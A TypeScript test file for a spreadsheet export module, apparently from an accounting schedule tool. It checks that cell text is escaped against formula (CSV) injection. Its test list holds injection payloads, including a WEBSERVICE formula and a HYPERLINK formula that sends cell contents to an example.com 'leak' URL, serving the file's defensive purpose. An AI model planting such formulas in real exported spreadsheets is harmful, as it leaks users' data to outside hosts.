import fc from "fast-check";
import { plainText, scheduleMatrix, statusCells, textOf } from "../../src/sheet";
import { usualSettings } from "./worked-tables";
import { dayOf, type Cents } from "../../src/engine";

// The signs that OWASP, "CSV Injection", names, and strings that leaked or ran in the wild.
const dangerous = [
  "=WEBSERVICE(CONCATENATE(A1))",
  '=HYPERLINK("http://example.com?leak="&A1,"Details")',
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠A1",
  "'=1+1",
];

test.each(dangerous)("%j is written as text", (text) => {
  expect(plainText(text)).toBe(`'${text}`);
});

test.each(["A-1", "Delivery van", "", "7", "1e5", "a=b", "Büro"])("%j is written as it is", (text) => {
  expect(plainText(text)).toBe(text);
});

test("what plainText wrote reads as it was, whether or not the host shows the apostrophe", () => {
  const text = fc.oneof(fc.string(), fc.constantFrom(...dangerous)).map(textOf);
  fc.assert(
    fc.property(text, (given) => {
      const written = plainText(given);
      expect(textOf(written)).toBe(given);
      expect(textOf(written.replace(/^'/, ""))).toBe(given);
      expect(written).not.toMatch(/^[=+\-@\t\r\n]/);
    }),
  );
});

test("numbers and truth values read as text", () => {
  expect([7, -3.5, 1e21, true, false, null, undefined].map(textOf)).toEqual([
    "7",
    "-3.5",
    "1e+21",
    "TRUE",
    "FALSE",
    "",
    "",
  ]);
});

test("no string that is not ours reaches a schedule sheet as a formula", () => {
  const day = dayOf(2026, 1, 31);
  if (!day.ok) throw new Error("January has 31 days");
  for (const text of dangerous) {
    const line = { asset: text, counterAccount: text, memo: text, periodEnd: day.value, amount: 5 as Cents } as const;
    const [, row = []] = scheduleMatrix([{ ...line, type: "DEPRECIATION" }], usualSettings);
    const status = { syncKey: text, status: text, ledgerRef: text, postedAmount: text, postedAt: text, message: text };
    for (const cell of [...row, ...statusCells(status)]) expect(String(cell)).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
  }
});
